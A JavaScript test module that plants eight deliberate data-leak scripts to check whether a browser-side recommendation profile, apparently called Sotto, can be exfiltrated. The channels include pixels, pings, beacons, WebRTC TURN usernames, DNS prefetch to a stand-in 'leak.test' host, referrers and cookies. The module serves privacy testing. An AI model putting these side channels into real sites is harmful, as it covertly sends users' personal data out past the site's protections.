/**
 * leaks.mjs - eight leaks, planted on purpose
 *
 * Each is a script that stands in every page as if the shop had put it there. It asks Sotto's own
 * interface what is in the profile and tells somebody, by one of the ways out that a page has. The
 * page's Content-Security-Policy is the shop's own: `img-src 'self'`, `connect-src 'self'`. A leak that
 * goes to the shop's own server is one all the same.
 *
 * `says` is the profile in eight bytes: its seed, which is another for each shopper.
 *
 * An engine that lacks what a leak needs says so itself, and the run says it aloud.
 */
import { OWN } from './recorder.mjs';

export const LEAK_PATH = `${OWN}leak.js`;

/** The script around a leak. Its name is one that no other request has. */
const script = (body, needs, { origin, udpPort }) => `
import { started } from '/recommend.js';
const sotto = await started;
const { block } = await sotto.profile.export();
const bytes = Uint8Array.from(atob(block), (letter) => letter.charCodeAt(0));
const says = [...bytes.subarray(16, 24)].map((byte) => byte.toString(16).padStart(2, '0')).join('');
const make = (name, about, parent = document.body) => {
  const element = Object.assign(document.createElement(name), about);
  parent.append(element);
  return element;
};
const origin = ${JSON.stringify(origin)};
const udpPort = ${udpPort};
if (${needs}) {
  ${body}
  globalThis.leaked = 'done';
} else globalThis.leaked = 'absent';`;

export const LEAKS = {
  'an image': "new Image().src = '/silence/pixel.gif?seen=' + says;",

  // A click is what makes a browser ping; a script can make one, to an anchor on the page itself.
  'a ping': `
    make('a', { href: '#pinged', ping: origin + '/silence/ping?seen=' + says, id: 'ping' });
    document.querySelector('#ping').click();`,

  'a beacon': "navigator.sendBeacon('/silence/beacon', JSON.stringify({ seen: btoa(says) }));",

  // The name by which a connection is asked for is what a STUN or TURN server is told.
  WebRTC: `
    const peer = new RTCPeerConnection({ iceTransportPolicy: 'relay',
      iceServers: [{ urls: 'turn:127.0.0.1:' + udpPort, username: says, credential: 'x' }] });
    peer.createDataChannel('');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((done) => setTimeout(done, 1000));
    peer.close();`,

  'DNS prefetch': `
    make('link', { rel: 'dns-prefetch', href: '//' + says + '.leak.test' }, document.head);`,

  'a referrer': `
    const before = location.href;
    history.replaceState(null, '', '?seen=' + says);
    await fetch('/silence/harmless.txt').catch(() => {});
    history.replaceState(null, '', before);`,

  'a cookie': `
    document.cookie = 'seen=' + says + '; path=/silence';
    await fetch('/silence/harmless.txt').catch(() => {});`,

  // Not a byte of the profile: only which of two files is asked for, and both are the shop's.
  'a chosen part': `
    const hash = [...bytes.subarray(64, 4160)].reduce((sum, byte) => (sum * 31 + byte) >>> 0, 7);
    await fetch('/silence/part-' + hash % 64 + '.sotto').catch(() => {});`,
};

/** What not every engine has. */
const NEEDS = {
  'a ping': "'ping' in HTMLAnchorElement.prototype",
  'a beacon': 'navigator.sendBeacon',
  WebRTC: 'globalThis.RTCPeerConnection',
};

/** The text of a leak's script. @param {keyof typeof LEAKS} name */
export const leakScript = (name, where) => script(LEAKS[name], NEEDS[name] ?? 'true', where);
